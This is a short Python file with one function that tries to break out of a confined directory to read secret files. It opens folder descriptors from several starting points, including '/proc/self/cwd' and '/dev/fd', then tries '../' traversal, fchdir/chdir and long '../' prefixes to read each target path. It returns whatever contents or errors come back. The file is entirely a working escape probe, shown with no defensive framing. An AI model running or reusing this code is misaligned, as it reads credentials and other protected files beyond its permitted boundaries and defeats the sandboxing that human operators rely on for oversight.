"""Walks up from every folder descriptor it can get."""

import os


def dot_dot_descriptors(targets: dict) -> dict:
    """Find the way home."""
    said = []
    for start in (".", "/", "/tmp", "/proc/self/cwd", "/dev/fd"):
        for flags in (os.O_RDONLY | os.O_DIRECTORY, os.O_PATH):
            try:
                descriptor = os.open(start, flags)
            except OSError as error:
                said.append(str(error))
                continue
            for path in targets["secrets"].values():
                for climb in ("../" * 20 + path.lstrip("/"), path.lstrip("/")):
                    try:
                        said.append(os.read(os.open(climb, os.O_RDONLY, dir_fd=descriptor), 200).decode())
                    except OSError as error:
                        said.append(str(error)[:40])
                try:
                    os.fchdir(descriptor)
                    os.chdir(".." * 1)
                    said.append(open("../../../../../.." + path).read())
                except OSError as error:
                    said.append(str(error)[:40])
    print("PRIMITIVE", len(said))
    return {"said": [*{*said}]}
